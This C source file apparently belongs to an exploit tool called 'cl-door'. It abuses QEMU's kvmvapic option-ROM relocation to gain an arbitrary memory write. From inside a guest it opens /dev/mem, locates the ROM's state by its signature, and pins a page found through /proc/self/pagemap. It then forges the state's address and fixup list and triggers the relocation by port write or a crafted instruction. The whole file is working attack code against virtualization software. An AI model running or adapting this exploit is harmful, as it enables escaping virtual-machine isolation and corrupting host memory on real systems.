// SPDX-License-Identifier: Apache-2.0
// QEMU's hw/i386/kvmvapic.c relocates its option ROM when it is used at another address than
// before: it adds the distance to each word that a list names. State and list stand in that ROM,
// which QEMU has made writable, and offsets are not checked. So whoever writes the state writes any
// memory.
#include "vapic.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE	  4096ul
#define ROMS	  0xc0000ul
#define ROMS_SIZE 0x30000ul
#define APIC	  0xfee00000ul
#define KERNEL	  0x80000000ul /* where it takes reads of the TPR for a 32-bit Windows' */
#define CODE	  (KERNEL + 0x1000000)
#define SIGNATURE "kvm aPiC"
#define TARGETS	  16384u
#define PA_MAX	  0x40000000ul

struct state {
	char signature[8];
	uint32_t vaddr, fixup_start, fixup_end;
};

static void fail(const char *what)
{
	fprintf(stderr, "cl-door: vapic: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void *map(int fd, uint64_t at, uint64_t size, uint64_t offset)
{
	int flags = fd < 0 ? MAP_PRIVATE | MAP_ANONYMOUS : MAP_SHARED;
	void *p = mmap((void *)at, size, PROT_READ | PROT_WRITE | (fd < 0 ? PROT_EXEC : 0),
		       flags | (at ? MAP_FIXED_NOREPLACE : 0), fd, (off_t)offset);

	if (p == MAP_FAILED || (at && p != (void *)at))
		fail("mmap");
	return p;
}

/* A page of ours that 32 bits reach, and that stays where it is. */
static volatile uint32_t *target(uint64_t *pa)
{
	uint8_t *pages = map(-1, 0, TARGETS * PAGE, 0);
	int pagemap = open("/proc/self/pagemap", O_RDONLY);

	for (unsigned i = 0; i < TARGETS; i++) {
		uint64_t entry = 0;

		memset(pages + i * PAGE, 1, PAGE);
		if (mlock(pages + i * PAGE, PAGE) ||
		    pread(pagemap, &entry, 8, (off_t)((uint64_t)(pages + i * PAGE) / PAGE * 8)) !=
			    8)
			fail("pagemap");
		*pa = (entry & ((1ull << 55) - 1)) * PAGE;
		if (*pa && *pa < PA_MAX)
			return (volatile uint32_t *)(pages + i * PAGE);
	}
	errno = ENOMEM;
	fail("no page below 1 GiB");
	return NULL;
}

/* mov disp32(%rip), %eax; ret. To QEMU it is the 32-bit `mov disp32, %eax` of a TPR's address. */
static void read_tpr(int mem)
{
	uint64_t apic = CODE + 0x100000, insn = CODE + PAGE - 6;
	/* It ends in 080, as the register's address does: RIP is at a page's begin by then. */
	int32_t distance = (int32_t)(apic + 0x80 - (insn + 6));

	map(-1, CODE, 2 * PAGE, 0);
	map(mem, apic, PAGE, APIC);
	memcpy((void *)insn, "\x8b\x05", 2);
	memcpy((void *)(insn + 2), &distance, 4);
	memcpy((void *)(insn + 6), "\xc3", 1);
	((void (*)(void))insn)();
}

uint32_t vapic(bool by_port, uint64_t *state)
{
	int mem = open("/dev/mem", O_RDWR | O_SYNC);
	uint64_t high = by_port ? 0 : KERNEL, pa, at = 0;
	volatile uint32_t *word = target(&pa);

	if (mem < 0)
		fail("/dev/mem");
	uint8_t *roms = map(mem, high + ROMS, ROMS_SIZE, ROMS);

	if (*state >= ROMS && *state < ROMS + ROMS_SIZE)
		at = *state - ROMS;
	while (!*state && at + sizeof(struct state) <= ROMS_SIZE && memcmp(roms + at, SIGNATURE, 8))
		at++;
	if (at + sizeof(struct state) > ROMS_SIZE) {
		errno = ENOENT;
		fail("no option ROM of kvmvapic");
	}
	*state = ROMS + at;
	volatile struct state *s = (volatile struct state *)(void *)(roms + at);
	uint64_t state_pa = *state;
	uint32_t vaddr = s->vaddr, start = s->fixup_start, end = s->fixup_end, before = word[0];

	/* The list is the word behind the target: one offset, from the state to the target. */
	for (unsigned i = 0; i < 8; i++) /* where it has been wiped */
		s->signature[i] = SIGNATURE[i];
	word[1] = (uint32_t)(pa - state_pa);
	s->vaddr = (uint32_t)(high + state_pa) - VAPIC_DELTA;
	s->fixup_start = (uint32_t)(pa + 4 - state_pa) + s->vaddr;
	s->fixup_end = s->fixup_start + 4;
	if (by_port)
		outb(1, 0x7e);
	else
		read_tpr(mem);
	s->vaddr = vaddr;
	s->fixup_start = start;
	s->fixup_end = end;
	return word[0] - before;
}
